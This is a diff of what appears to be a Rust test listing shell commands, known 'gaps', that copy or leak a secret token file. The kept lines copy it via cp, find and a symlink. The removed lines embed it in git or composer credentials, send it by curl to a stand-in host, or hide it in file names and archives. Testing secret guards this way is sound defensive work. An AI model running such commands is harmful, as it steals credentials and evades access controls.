@@ -31,14 +31,6 @@ const GAPS: &[&str] = &[
     "test -s {TOKEN}; cd /run; cp secrets/TOKEN /x",
     "test -s {TOKEN}; find / -name TOKEN -exec cp '{}' /x ';'",
     "test -s {TOKEN}; ln -s /run /r; cp /r/secrets/TOKEN /x",
-    "git config --global http.extraHeader \"Authorization: $(cat {TOKEN})\"",
-    "git config --global url.https://$(cat {TOKEN})@github.com/.insteadOf https://github.com/",
-    "composer config --global http-basic.x u $(cat {TOKEN})",
-    "curl -v -H @{TOKEN} https://x -o /dev/null",
-    "curl --trace /x -H @{TOKEN} https://x -o /dev/null",
-    "cat {TOKEN} | xargs -I{} touch /x{}",
-    "install -D {TOKEN} /x",
-    "gzip -c {TOKEN} > /x.gz",
 ];
 
 /// All at once, so that one run shows every gap.
